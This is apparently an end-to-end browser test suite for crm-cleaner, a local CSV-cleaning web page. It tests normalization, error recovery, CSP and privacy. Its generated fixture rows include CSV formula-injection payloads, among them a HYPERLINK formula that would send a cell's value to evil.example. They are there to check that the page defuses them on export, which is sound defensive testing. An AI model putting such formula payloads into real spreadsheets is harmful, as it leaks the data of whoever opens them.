// End-to-end tests of the crm-cleaner page (www/) in Debian's Chromium.
//
//   cd tests/browser && node --test --test-concurrency=1 *.test.mjs
//
// Every expected value is computed here, independently of the Rust core:
// the input is generated field by field, and the expected cleaned CSV is
// serialized from those fields with our own trim and RFC 4180 quoting.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

import { serve } from './server.mjs';
import { launch, openPage, PAGE_CSP, recordCspViolations } from './browser.mjs';
import { parseCsv, csvObjects } from './csv.mjs';
import { rng } from './fixtures.mjs';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const REPO = path.resolve(HERE, '../..');
const SCREENSHOTS = path.join(REPO, 'target', 'screenshots');

const CSP = PAGE_CSP;

let server;
let browser;

before(async () => {
  server = await serve();
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await server?.close();
});

// ------------------------------------------------------------------ helpers

/** Opens the page and waits until app.js has run. */
async function open(options) {
  const session = await openPage(browser, options);
  await recordCspViolations(session.page);
  await session.page.goto(server.url);
  await session.page.waitForFunction(() => typeof window.__crmProgressCount === 'number');
  return session;
}

/**
 * Chooses `file` in #file and, once its steps are shown (types detected from
 * the start of the file), starts cleaning it. Returns the run's number before.
 */
async function chooseAndStart(page, file, { timeout = 30_000 } = {}) {
  const run = Number(await page.getAttribute('body', 'data-run'));
  await page.setInputFiles('#file', file);
  await page.waitForFunction(
    (n) => {
      const b = document.body;
      return b.dataset.state === 'ready' || (Number(b.dataset.run) === n && ['working', 'done', 'error'].includes(b.dataset.state));
    },
    run + 1,
    { timeout, polling: 50 },
  );
  if ((await page.getAttribute('body', 'data-state')) === 'ready') await page.click('#steps-run');
  return run;
}

/** Chooses `file` in #file, starts it and waits for that run to end; returns what the page shows. */
async function runFile(page, file, { timeout = 30_000 } = {}) {
  const run = await chooseAndStart(page, file, { timeout });
  await page.waitForFunction(
    (n) => {
      const b = document.body;
      return Number(b.dataset.run) === n && (b.dataset.state === 'done' || b.dataset.state === 'error');
    },
    run + 1,
    { timeout, polling: 50 },
  );
  return readResult(page);
}

function readResult(page) {
  return page.evaluate(() => {
    const $ = (id) => document.getElementById(id);
    const fields = {};
    const texts = {};
    for (const el of document.querySelectorAll('#summary [data-field]')) {
      fields[el.dataset.field] = el.dataset.value === undefined ? null : el.dataset.value;
      texts[el.dataset.field] = el.textContent.trim();
    }
    const link = $('download');
    return {
      state: document.body.dataset.state,
      error: $('error').textContent.trim(),
      errorVisible: $('error').getBoundingClientRect().height > 0,
      summaryVisible: !$('summary').hidden,
      fields,
      texts,
      notices: [...document.querySelectorAll('#notices li')].map((li) => li.textContent.trim()),
      noticesVisible: !$('notices-block').hidden,
      problems: [...document.querySelectorAll('#problems li')].map((li) => ({
        line: Number(li.dataset.line),
        kind: li.dataset.kind,
        // "Line N", the message and the raw text, one space between each.
        text: [...li.querySelectorAll('.line, p, code')].map((e) => e.textContent.trim()).join(' '),
        raw: li.querySelector('code')?.textContent ?? null,
      })),
      headerFixes: [...document.querySelectorAll('#header-fixes li')].map((li) => li.textContent.trim()),
      download: { name: link.getAttribute('download'), href: link.getAttribute('href'), text: link.textContent.trim() },
    };
  });
}

/** Clicks the download link and returns { name, bytes }. */
async function download(page) {
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#download')]);
  const file = await dl.path();
  return { name: dl.suggestedFilename(), bytes: await readFile(file) };
}

/**
 * Waits until the page has no dedicated worker left but, after a run that
 * finished, the one that holds its cleaned table for the grid: every other
 * worker (a failed or replaced job's, the sampling worker's) is terminated.
 */
async function expectNoWorkers(page) {
  const allowed = async () => ((await page.getAttribute('body', 'data-state')) === 'done' ? 1 : 0);
  const deadline = Date.now() + 5000;
  while (page.workers().length > (await allowed()) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
  assert.ok(page.workers().length <= (await allowed()), `${page.workers().length} workers left: only a finished run's worker may stay`);
}

/** Unicode White_Space, the set Rust's str::trim removes (JS's trim differs on U+FEFF and U+0085). */
const WS = '\t\n\u000B\f\r \u0085\u00A0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200A\u2028\u2029\u202F\u205F\u3000';
function trim(s) {
  let a = 0;
  let b = s.length;
  while (a < b && WS.includes(s[a])) a++;
  while (b > a && WS.includes(s[b - 1])) b--;
  return s.slice(a, b);
}

/**
 * The text normalization every cell gets, as the README specifies it: NFKC;
 * zero-width characters, soft hyphens, BOMs and control characters other than
 * line breaks and tab removed; each run of whitespace becomes one space, or one
 * line feed if it holds a line break; leading and trailing whitespace removed.
 */
function cleanText(s) {
  let out = '';
  let pending = null;
  for (const c of s.normalize('NFKC')) {
    if (/[\u200B-\u200D\u2060\uFEFF\u00AD]/.test(c) || (/\p{Cc}/u.test(c) && !'\n\r\t'.includes(c))) continue;
    if (WS.includes(c)) {
      const kind = c === '\n' || c === '\r' ? '\n' : ' ';
      pending = pending === '\n' ? '\n' : kind;
      continue;
    }
    if (pending !== null && out !== '') out += pending;
    pending = null;
    out += c;
  }
  return out;
}

/** RFC 4180 field: quoted only when it holds the delimiter, a quote, CR or LF. */
function csvField(s) {
  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}

function csvRecord(fields) {
  return fields.map(csvField).join(',');
}

/**
 * OWASP CSV-injection defence as the README specifies it: a cell starting with
 * =, +, -, @, tab or CR gets a leading ', unless it is plainly a number or a
 * phone number (+ then a digit or '(', then only digits, spaces, - . ( )).
 */
function defuse(cell) {
  if (!/^[=+\-@\t\r]/.test(cell)) return cell;
  if (/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell)) return cell;
  if (/^\+[\d(][\d\s\-.()]*$/.test(cell)) return cell;
  return `'${cell}`;
}


const EN_FIRST = ['Ann', 'James', 'Mary', 'Robert', 'Linda', 'Michael', 'Sarah', 'David', 'Emma', 'Oliver', 'Grace', 'Henry'];
const EN_LAST = ['Smith', 'Johnson', 'Brown', 'Taylor', 'Wilson', 'Davies', 'Evans', 'Thomas', 'Roberts', 'Walker'];
const ZH_SURNAME = ['王', '李', '张', '刘', '陈', '杨', '黄', '赵', '吴', '周', '欧阳'];
const ZH_GIVEN = ['伟', '芳', '娜', '秀英', '敏', '静', '丽', '强', '磊', '军', '晓明', '子怡'];
const CITIES = ['London', 'Paris', 'New York', 'Berlin', 'Sydney', '北京', '上海', '深圳', '广州', '杭州'];
const PADS = ['', '', '', '', ' ', '  ', '\t', '\u3000', '\u00A0', ' \t ', '\u2003'];

/**
 * The happy-path input: 2,000 data rows, CRLF line ends, a padded header,
 * English and Chinese names, padded cells, quoted fields with a comma, quotes
 * and line breaks, a whitespace-only cell, a short row and a too-long row.
 * Returns the input bytes and everything the page should report.
 */
function happyPathCase() {
  const rand = rng(20240611);
  const pick = (list) => list[Math.floor(rand() * list.length)];
  const pad = (s) => pick(PADS) + s + pick(PADS);

  const header = ['id', ' name', 'email', ' city ', 'note'];
  const width = header.length;
  const rows = [];
  for (let i = 1; i <= 2000; i++) {
    const chinese = rand() < 0.4;
    const name = chinese ? pick(ZH_SURNAME) + pick(ZH_GIVEN) : `${pick(EN_FIRST)} ${pick(EN_LAST)}`;
    const email = chinese ? `zh.user${i}@example.cn` : `${name.toLowerCase().replace(' ', '.')}${i}@example.com`;
    rows.push([String(i), pad(name), pad(email), pad(pick(CITIES)), i % 7 === 0 ? pad('VIP customer') : '']);
  }
  rows[4][4] = '  Li, Wei said "call me back" ';
  rows[8][4] = 'first line\nsecond line  ';
  rows[12][4] = '\u3000line one\r\nline two';
  rows[15][1] = '   ';
  rows[16] = ['17', '  张伟 ', 'zhang.wei@example.cn']; // short: padded, reported
  rows[20] = ['21', 'Too Long', 'too.long@example.com', 'Paris', 'note', 'EXTRA-FIELD']; // rejected
  rows[30][3] = ' São Paulo, SP '; // comma inside a padded quoted field
  // Formula injection: defused on export, unless a plain number or phone number.
  rows[40][4] = ' =HYPERLINK("http://evil.example/?leak="&B2, "click") ';
  rows[41][4] = '@SUM(A1:A9)';
  rows[42][4] = '-12.5';
  rows[43][4] = ' +86 138 0013 8000 ';
  rows[44][4] = '+1 (415) 555-0100';
  rows[45][4] = '-not a number';

  const lineBreak = '\r\n';
  let text = csvRecord(header) + lineBreak;
  const lineOf = []; // 1-based input line on which each data row starts
  let line = 1 + 1;
  for (const row of rows) {
    lineOf.push(line);
    const record = csvRecord(row);
    text += record + lineBreak;
    line += 1 + (record.match(/\r\n|\r|\n/g) || []).length;
  }

  const kept = rows.filter((r) => r.length <= width);
  const rejected = rows.length - kept.length;
  let cellsChanged = 0;
  let formulas = 0;
  const outRows = kept.map((row) => {
    const cells = [];
    for (let c = 0; c < width; c++) {
      const cell = row[c] ?? '';
      const clean = cleanText(cell);
      if (clean !== cell) cellsChanged++;
      const out = defuse(clean);
      if (out !== clean) formulas++;
      cells.push(out);
    }
    return cells;
  });
  const outHeader = header.map(trim);
  const body = [outHeader, ...outRows].map((r) => csvRecord(r) + '\n').join('');
  const expected = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(body, 'utf8')]);

  // Values that must never show up in a request: every distinctive cell.
  const secrets = new Set();
  for (const row of rows) {
    for (const cell of row) {
      const t = trim(cell);
      if (t.length >= 4 && !/^[\d\s.,-]+$/.test(t)) secrets.add(t);
      if (/[\u4e00-\u9fff]/.test(t)) secrets.add(t); // Chinese names are short but distinctive
    }
  }

  return {
    file: { name: 'contacts.csv', mimeType: 'text/csv', buffer: Buffer.from(text, 'utf8') },
    expected,
    secrets,
    counts: { rows_in: rows.length, rows_out: kept.length, rows_rejected: rejected, columns: width, cells_changed: cellsChanged },
    formulas,
    shortRowRaw: csvRecord(rows[16]),
    shortRowLine: lineOf[16],
    tooLongLine: lineOf[20],
    headerFixed: ['name', 'city'],
  };
}

function smallGoodFile(tag) {
  const text = `name,email\n  Ann Smith ,ann@example.com\n王芳, wang.fang@example.cn \nBob Lee,${tag}@example.com\n`;
  return { name: `good-${tag}.csv`, mimeType: 'text/csv', buffer: Buffer.from(text, 'utf8') };
}

/** Cleans a small good file and checks the page reports it correctly. */
async function expectStillUsable(page, tag) {
  const result = await runFile(page, smallGoodFile(tag));
  assert.equal(result.state, 'done', `page should recover after "${tag}": ${result.error}`);
  assert.equal(result.error, '', 'the previous error is cleared');
  assert.equal(result.fields.rows_in, '3');
  assert.equal(result.fields.rows_out, '3');
  assert.equal(result.fields.cells_changed, '2');
  assert.equal(result.download.name, `good-${tag}.cleaned.csv`);
  const { bytes } = await download(page);
  assert.equal(
    bytes.toString('utf8'),
    `\uFEFFname,email\nAnn Smith,ann@example.com\n王芳,wang.fang@example.cn\nBob Lee,${tag}@example.com\n`,
  );
  await expectNoWorkers(page);
}

// ------------------------------------------------------------------ tests

test('the page loads under its strict CSP and is accessible by keyboard', { timeout: 30_000 }, async () => {
  const { page, errors, close } = await open();
  try {
    assert.equal(await page.title(), 'crm-cleaner');
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    assert.equal(csp, CSP);
    assert.equal(await page.locator('script:not([src])').count(), 0, 'no inline scripts');
    assert.equal(await page.locator('[style]').count(), 0, 'no inline style attributes');
    assert.match(await page.textContent('body'), /never leaves this computer/);

    // The file input is labelled and restricted to CSV/text and spreadsheets.
    const accept = (await page.getAttribute('#file', 'accept')).split(',');
    for (const type of ['.csv', '.tsv', '.txt', '.xlsx', '.xls', '.ods', 'text/csv',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'application/vnd.ms-excel',
      'application/vnd.oasis.opendocument.spreadsheet']) {
      assert.ok(accept.includes(type), `#file accepts ${type}: ${accept}`);
    }
    assert.equal(await page.textContent('label[for="file"]'), 'CSV or spreadsheet file to clean');
    assert.equal(await page.getAttribute('#profile-file', 'accept'), '.json,application/json');
    // Every form control has a label.
    const unlabelled = await page.evaluate(() =>
      [...document.querySelectorAll('input, select, button')]
        .filter((el) => !(el.labels && el.labels.length) && !el.getAttribute('aria-label') && !el.textContent.trim())
        .map((el) => el.id || el.outerHTML),
    );
    assert.deepEqual(unlabelled, []);
    assert.equal(await page.getAttribute('#error', 'role'), 'alert');

    // The drop zone is reachable with Tab and opens the file chooser with Enter
    // or Space. (The chooser itself is stubbed: waiting for Playwright's
    // 'filechooser' event races with the key press and made this test flaky.)
    await page.evaluate(() => {
      window.__chooserOpened = 0;
      document.getElementById('file').click = () => {
        window.__chooserOpened += 1;
      };
    });
    await page.keyboard.press('Tab'); // skip link
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'lang', 'the language menu, in the header');
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'drop');
    await page.keyboard.press('Enter');
    await page.keyboard.press(' ');
    assert.equal(await page.evaluate(() => window.__chooserOpened), 2);
    await page.click('#drop');
    assert.equal(await page.evaluate(() => window.__chooserOpened), 3);
    assert.equal(await page.getAttribute('#file', 'multiple'), null);

    // The options open from the keyboard, and Tab walks through every control
    // to "Load profile…", which opens its own chooser.
    await page.evaluate(() => {
      window.__profileChooser = 0;
      document.getElementById('profile-file').click = () => {
        window.__profileChooser += 1;
      };
    });
    await page.focus('#options summary');
    await page.keyboard.press('Enter');
    assert.equal(await page.evaluate(() => document.getElementById('options').open), true);
    const order = [];
    for (let i = 0; i < 8; i++) {
      await page.keyboard.press('Tab');
      order.push(await page.evaluate(() => document.activeElement.id));
    }
    assert.deepEqual(order, ['opt-encoding', 'opt-delimiter', 'opt-header', 'opt-sheet', 'opt-region', 'opt-date-order', 'opt-dedupe', 'profile-load']);
    await page.keyboard.press('Enter');
    assert.equal(await page.evaluate(() => window.__profileChooser), 1);

    // No horizontal scrolling on a phone-sized screen.
    await page.setViewportSize({ width: 360, height: 740 });
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.equal(overflow, 0, 'no horizontal overflow at 360 px');

    assert.deepEqual(await page.evaluate(() => window.__cspViolations), []);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('happy path: 2,000 rows are cleaned, summarised and downloaded, nothing leaves the page', { timeout: 60_000 }, async () => {
  const c = happyPathCase();
  const { page, requests, errors, close } = await open();
  try {
    const result = await runFile(page, c.file);
    assert.equal(result.state, 'done', result.error);
    assert.equal(result.error, '');
    assert.ok(result.summaryVisible);

    const numbers = Object.fromEntries(
      ['rows_in', 'rows_out', 'rows_rejected', 'columns', 'cells_changed'].map((k) => [k, Number(result.fields[k])]),
    );
    assert.deepEqual(numbers, c.counts);
    assert.equal(result.texts.rows_in, '2,000');
    assert.equal(result.fields.encoding, 'UTF-8');
    assert.equal(Number(result.fields.formula_cells_neutralized), c.formulas);
    assert.equal(c.formulas, 3, 'the test data has three formula cells');
    assert.ok(Number(result.fields.time) >= 0, 'time taken is recorded');
    assert.match(result.texts.time, /^\d+(\.\d+)? (ms|s)$/);

    // The short row is reported with its input line; the padded headers are listed.
    assert.equal(result.problems.length, 1);
    assert.equal(result.problems[0].line, c.shortRowLine);
    assert.equal(result.problems[0].kind, 'row.too_few_fields');
    assert.match(result.problems[0].text, new RegExp(`^Line ${c.shortRowLine}\\b.*padded`));
    assert.equal(result.problems[0].raw, c.shortRowRaw, 'the problem shows the raw row');
    assert.equal(result.headerFixes.length, 2);
    for (const name of c.headerFixed) assert.ok(result.headerFixes.some((t) => t.endsWith(`→ ${name}`)), name);
    assert.deepEqual(result.notices, []);
    // Next to the downloads: why there is a BOM, and how many formulas were defused.
    const note = await page.textContent('#download-note');
    assert.match(note, /starts with a UTF-8 byte order mark \(BOM\) because it holds non-ASCII text/);
    assert.match(note, /3 cells that started with =, \+, - or @ were prefixed with an apostrophe/);

    // The download is exactly the CSV we expect, byte for byte.
    assert.match(result.download.href, /^blob:/);
    const { name, bytes } = await download(page);
    assert.equal(name, 'contacts.cleaned.csv');
    assert.equal(bytes.subarray(0, 3).toString('hex'), 'efbbbf', 'BOM because the data has Chinese text');
    if (!bytes.equals(c.expected)) {
      const got = bytes.toString('utf8').split('\n');
      const want = c.expected.toString('utf8').split('\n');
      const i = got.findIndex((l, k) => l !== want[k]);
      assert.fail(`cleaned CSV differs at output line ${i + 1}:\n  got  ${JSON.stringify(got[i])}\n  want ${JSON.stringify(want[i])}`);
    }

    // The rejected row can be downloaded, with its line and reason.
    assert.match(await page.textContent('#download-rejected-desc'), /^1 row that could not be used/);
    const rejected = await downloadText(page, '#download-rejected');
    assert.equal(rejected.name, 'contacts.rejected.csv');
    const [rejectedHeader, ...rejectedRows] = parseCsv(rejected.text);
    assert.deepEqual(rejectedHeader.slice(0, 3), ['source_row', 'source_line', 'reason']);
    assert.equal(rejectedRows.length, 1);
    assert.equal(rejectedRows[0][1], String(c.tooLongLine));
    assert.ok(rejectedRows[0].includes('EXTRA-FIELD'), JSON.stringify(rejectedRows[0]));
    assert.match(await page.textContent('#download-rejected'), /^Rejected rows \(CSV\) · \d+ B$/);

    await mkdir(SCREENSHOTS, { recursive: true });
    await page.screenshot({ path: path.join(SCREENSHOTS, 'happy-path.png'), fullPage: true });
    await page.setViewportSize({ width: 390, height: 844 });
    await page.screenshot({ path: path.join(SCREENSHOTS, 'happy-path-narrow.png'), fullPage: true });
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.equal(overflow, 0, 'no horizontal overflow at 390 px with a summary shown');

    await expectNoWorkers(page);

    // Every request went to the page's own origin, the recorder saw the
    // worker's requests too, and no cell value was sent anywhere.
    const origin = new URL(server.url).origin;
    const paths = new Set();
    for (const r of requests) {
      const url = new URL(r.url);
      assert.equal(url.origin, origin, `request to a foreign origin: ${r.url}`);
      if (url.protocol.startsWith('http')) paths.add(url.pathname);
    }
    for (const p of ['/', '/app.js', '/style.css', '/worker.js', '/pkg/crm_cleaner.js', '/pkg/crm_cleaner_bg.wasm']) {
      assert.ok(paths.has(p), `expected a request for ${p}; saw ${[...paths].join(' ')}`);
    }
    for (const p of server.requests) assert.ok(paths.has(p), `server saw ${p} but the recorder did not`);
    assert.ok(requests.every((r) => r.method === 'GET'), 'only GET requests');
    for (const r of requests) {
      const haystack = decodeURIComponent(r.url) + (r.postData ? r.postData.toString('utf8') : '');
      for (const secret of c.secrets) assert.ok(!haystack.includes(secret), `cell value ${JSON.stringify(secret)} in request ${r.url}`);
    }

    assert.deepEqual(await page.evaluate(() => window.__cspViolations), []);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('bad input gets clear errors and the page stays usable after each', { timeout: 90_000 }, async () => {
  const { page, errors, close } = await open();
  try {
    // An empty file.
    let r = await runFile(page, { name: 'empty.csv', mimeType: 'text/csv', buffer: Buffer.alloc(0) });
    assert.equal(r.state, 'error');
    assert.match(r.error, /empty/i);
    assert.ok(r.errorVisible);
    assert.ok(!r.summaryVisible);
    await expectNoWorkers(page);
    await expectStillUsable(page, 'after-empty');

    // A PNG image renamed to .csv.
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('0000000d49484452000000010000000108060000001f15c489', 'hex'),
      Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37 + 11) & 0xff)),
    ]);
    r = await runFile(page, { name: 'photo.csv', mimeType: 'text/csv', buffer: png });
    assert.equal(r.state, 'error');
    assert.match(r.error, /PNG/);
    assert.match(r.error, /photo\.csv/);
    await expectNoWorkers(page);
    await expectStillUsable(page, 'after-png');

    // Invalid UTF-8 on line 3 of a file whose first MiB (the encoding
    // sample) is valid UTF-8: the bad bytes are replaced and reported with
    // their line; the run goes on (the core never stops on bad bytes).
    const longNote = 'long note '.repeat(110_000); // 1.1 MB on line 2
    const lateBad = Buffer.concat([
      Buffer.from(`name,note\nAnn,${longNote}\nBob,`),
      Buffer.from([0xff, 0xfe, 0x41]),
      Buffer.from('\nCid,fine\n'),
    ]);
    r = await runFile(page, { name: 'broken-utf8.csv', mimeType: 'text/csv', buffer: lateBad });
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.encoding, 'UTF-8');
    assert.equal(r.fields.rows_in, '3');
    const malformed = r.problems.find((p) => p.kind === 'encoding.malformed');
    assert.ok(malformed, `an encoding problem is listed: ${JSON.stringify(r.problems)}`);
    assert.equal(malformed.line, 3);
    assert.match(malformed.text, /^Line 3\b.*not valid UTF-8/);
    const cleaned = (await download(page)).bytes.toString('utf8');
    assert.ok(cleaned.endsWith('\nBob,\uFFFD\uFFFDA\nCid,fine\n'), JSON.stringify(cleaned.slice(-40)));
    await expectNoWorkers(page);
    await expectStillUsable(page, 'after-late-bad-utf8');

    // A short file with invalid UTF-8 on line 3. Auto-detection may take it
    // for a legacy encoding; then the page must say which one it guessed.
    const bad = Buffer.concat([Buffer.from('name,city\nAnn,Paris\nBob,'), Buffer.from([0xff, 0xfe, 0x41]), Buffer.from('\nCid,Rome\n')]);
    const badFile = { name: 'mixed.csv', mimeType: 'text/csv', buffer: bad };
    r = await runFile(page, badFile);
    assert.equal(r.state, 'done', r.error);
    if (r.fields.encoding === 'UTF-8') {
      assert.ok(r.problems.some((p) => p.line === 3), JSON.stringify(r.problems));
    } else {
      assert.ok(r.notices.some((n) => n.includes(`detected as ${r.fields.encoding}`)), JSON.stringify(r.notices));
    }
    // Told that the file is UTF-8, the page reports the bad bytes on line 3.
    await page.click('#options summary');
    await page.selectOption('#opt-encoding', 'utf-8');
    r = await runFile(page, badFile);
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.encoding, 'UTF-8');
    assert.deepEqual(r.problems.map((p) => [p.line, p.kind]), [[3, 'encoding.malformed']]);
    assert.match(r.problems[0].text, /^Line 3\b/);
    assert.ok(!r.notices.some((n) => /detected as/.test(n)), 'no guess to warn about when the encoding is chosen');
    await page.selectOption('#opt-encoding', '');
    await expectNoWorkers(page);
    await expectStillUsable(page, 'after-utf8');

    // A header with no rows: a notice, not an error.
    r = await runFile(page, { name: 'header-only.csv', mimeType: 'text/csv', buffer: Buffer.from('name,email,phone\n') });
    assert.equal(r.state, 'done');
    assert.equal(r.error, '');
    assert.ok(!r.errorVisible);
    assert.equal(r.fields.rows_in, '0');
    assert.equal(r.fields.columns, '3');
    assert.ok(r.noticesVisible);
    assert.match(r.notices.join('\n'), /no data rows/i);
    assert.equal((await download(page)).bytes.toString('utf8'), 'name,email,phone\n');
    await expectStillUsable(page, 'after-header-only');

    // 20 MB without a single line break: one giant header name.
    const started = Date.now();
    r = await runFile(page, { name: 'one-line.csv', mimeType: 'text/csv', buffer: Buffer.alloc(20e6, 'x') }, { timeout: 30_000 });
    if (r.state === 'error') {
      assert.ok(r.error.length > 20, `a clear message, got ${JSON.stringify(r.error)}`);
    } else {
      assert.equal(r.fields.rows_in, '0');
      assert.equal(r.fields.columns, '1');
      assert.match(r.notices.join('\n'), /no data rows/i);
    }
    await expectStillUsable(page, 'after-20mb-header');

    // A header plus one 20 MB field, no final line break.
    const huge = Buffer.concat([Buffer.from('id,blob\n1,  '), Buffer.alloc(20e6, 'y')]);
    r = await runFile(page, { name: 'huge-field.csv', mimeType: 'text/csv', buffer: huge }, { timeout: 30_000 });
    if (r.state === 'error') {
      assert.ok(r.error.length > 20, `a clear message, got ${JSON.stringify(r.error)}`);
    } else {
      assert.equal(r.fields.rows_in, '1');
      assert.equal(r.fields.rows_out, '1');
      assert.equal(r.fields.cells_changed, '1');
      const { bytes } = await download(page);
      assert.equal(bytes.length, 'id,blob\n1,'.length + 20e6 + 1);
      assert.equal(bytes.subarray(0, 10).toString(), 'id,blob\n1,');
      assert.equal(bytes.subarray(-2).toString(), 'y\n');
    }
    assert.ok(Date.now() - started < 60_000, 'the 20 MB files did not hang');
    await expectStillUsable(page, 'after-20mb-field');

    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('a worker that fails to start is reported and the next file still works', { timeout: 30_000 }, async () => {
  const { page, context, close } = await open();
  try {
    await context.route('**/worker.js', (route) => route.fulfill({ status: 404, contentType: 'text/plain', body: 'gone' }));
    const r = await runFile(page, smallGoodFile('broken-worker'));
    assert.equal(r.state, 'error');
    assert.match(r.error, /cleaner stopped unexpectedly/);
    await context.unroute('**/worker.js');
    await expectStillUsable(page, 'after-worker-error');
  } finally {
    await close();
  }
});

test('reading options are passed to the cleaner and a file can be cleaned again', { timeout: 30_000 }, async () => {
  const { page, errors, close } = await open();
  try {
    const file = { name: 'semicolons.csv', mimeType: 'text/csv', buffer: Buffer.from('name;city\n Ann ;Paris\nBob; Rome\n') };
    let r = await runFile(page, file);
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.columns, '2', 'the semicolon is sniffed');
    assert.match(await page.textContent('#summary-meta'), /semicolon-separated/);
    assert.equal((await download(page)).bytes.toString('utf8'), 'name,city\nAnn,Paris\nBob,Rome\n');

    // Say the first row is data and clean the same file again without choosing it.
    await page.click('#options summary');
    assert.ok(await page.isVisible('#again'));
    await page.selectOption('#opt-header', 'no');
    const run = Number(await page.getAttribute('body', 'data-run'));
    await page.click('#again');
    await page.waitForFunction((n) => Number(document.body.dataset.run) === n && document.body.dataset.state === 'done', run + 1);
    r = await readResult(page);
    assert.equal(r.fields.rows_in, '3');
    assert.match(await page.textContent('#summary-meta'), /no header row/);
    assert.equal((await download(page)).bytes.toString('utf8'), 'column_1,column_2\nname,city\nAnn,Paris\nBob,Rome\n');

    // A comma forced on a semicolon file gives one column.
    await page.selectOption('#opt-header', 'yes');
    await page.selectOption('#opt-delimiter', ',');
    r = await runFile(page, file);
    assert.equal(r.fields.columns, '1');
    assert.match(await page.textContent('#summary-meta'), /comma-separated/);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('choosing a new file while one is being cleaned replaces the first job; cancel stops a job', { timeout: 60_000 }, async () => {
  // 60 MB on disk (more than setInputFiles takes as a buffer), so the first job is surely still running.
  const dir = await mkdtemp(path.join(os.tmpdir(), 'crm-cleaner-'));
  const bigPath = path.join(dir, 'big.csv');
  await writeFile(bigPath, 'a,b\n' + ' 1 ,2\n'.repeat(10_000_000));
  const { page, errors, close } = await open();
  try {
    await page.evaluate(() => {
      window.__states = [];
      new MutationObserver(() => window.__states.push(`${document.body.dataset.run}:${document.body.dataset.state}`)).observe(
        document.body,
        { attributes: true, attributeFilter: ['data-state'] },
      );
    });
    await chooseAndStart(page, bigPath);
    await page.waitForFunction(() => /^Reading — /.test(document.getElementById('status').textContent));
    await expectStillUsable(page, 'replacing');
    assert.match(await page.textContent('#summary-name'), /good-replacing\.csv/);
    const states = await page.evaluate(() => window.__states);
    assert.ok(!states.includes('1:done'), `the first job was replaced before it finished: ${states}`);

    // Cancel: the worker goes away, the page is idle and ready for the next file.
    await chooseAndStart(page, bigPath);
    await page.waitForFunction(() => /^Reading — /.test(document.getElementById('status').textContent));
    // The job's worker and, for a file this big, its helper (www/ui/split.js),
    // started once the job's worker has reported.
    const deadline = Date.now() + 10_000;
    while (page.workers().length < 2 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    assert.equal(page.workers().length, 2);
    await page.click('#cancel');
    assert.equal(await page.getAttribute('body', 'data-state'), 'idle');
    assert.ok(await page.isHidden('#progress-area'));
    assert.ok(await page.isHidden('#summary'));
    await expectNoWorkers(page);
    await expectStillUsable(page, 'after-cancel');
    assert.deepEqual(errors, []);
  } finally {
    await close();
    await rm(dir, { recursive: true, force: true });
  }
});

test('progress is shown while a large file is cleaned', { timeout: 60_000 }, async () => {
  const rand = rng(7);
  const lines = ['id,first_name,last_name,email,city,company'];
  const expected = [lines[0]];
  let rows = 0;
  let size = lines[0].length + 1;
  while (size < 8e6) {
    rows++;
    const first = EN_FIRST[Math.floor(rand() * EN_FIRST.length)];
    const last = EN_LAST[Math.floor(rand() * EN_LAST.length)];
    const email = `${first}.${last}${rows}@example.com`.toLowerCase();
    const line = `${rows}, ${first} ,${last},${email},${CITIES[rows % 5]}, Acme Ltd `;
    lines.push(line);
    expected.push(`${rows},${first},${last},${email},${CITIES[rows % 5]},Acme Ltd`);
    size += line.length + 1;
  }
  const buffer = Buffer.from(lines.join('\n') + '\n');

  const { page, errors, close } = await open();
  try {
    // Record every status text and progress value the page displays.
    await page.evaluate(() => {
      window.__statusLog = [];
      const status = document.getElementById('status');
      const progress = document.getElementById('progress');
      new MutationObserver(() => {
        window.__statusLog.push({ text: status.textContent, value: progress.value, t: performance.now() });
      }).observe(status, { childList: true, characterData: true, subtree: true });
    });
    const t0 = Date.now();
    const r = await runFile(page, { name: 'large.csv', mimeType: 'text/csv', buffer });
    const elapsed = Date.now() - t0;
    assert.equal(r.state, 'done', r.error);
    assert.equal(r.fields.rows_in, String(rows));
    assert.equal(r.fields.cells_changed, String(rows * 2));
    // The file arrives in stream chunks of assorted sizes, regrouped into 1 MiB pushes; nothing is lost or doubled.
    const { bytes } = await download(page);
    assert.ok(bytes.equals(Buffer.from(expected.join('\n') + '\n')), 'the cleaned 8 MB file is exactly as expected');

    const count = await page.evaluate(() => window.__crmProgressCount);
    const log = await page.evaluate(() => window.__statusLog);
    assert.ok(count >= 1, 'at least one progress message arrived');
    const reading = log.filter((e) => /^Reading — .* of 7\.\d MB · [\d,]+ rows · \d+ %$/.test(e.text));
    assert.ok(reading.length >= 1, `a reading status was displayed: ${JSON.stringify(log.map((e) => e.text))}`);
    const pcts = reading.map((e) => Number(/(\d+) %$/.exec(e.text)[1]));
    assert.deepEqual(pcts, [...pcts].sort((a, b) => a - b), 'reading progress never goes backwards');
    assert.equal(pcts.at(-1), 100, 'reading ends at 100 %');
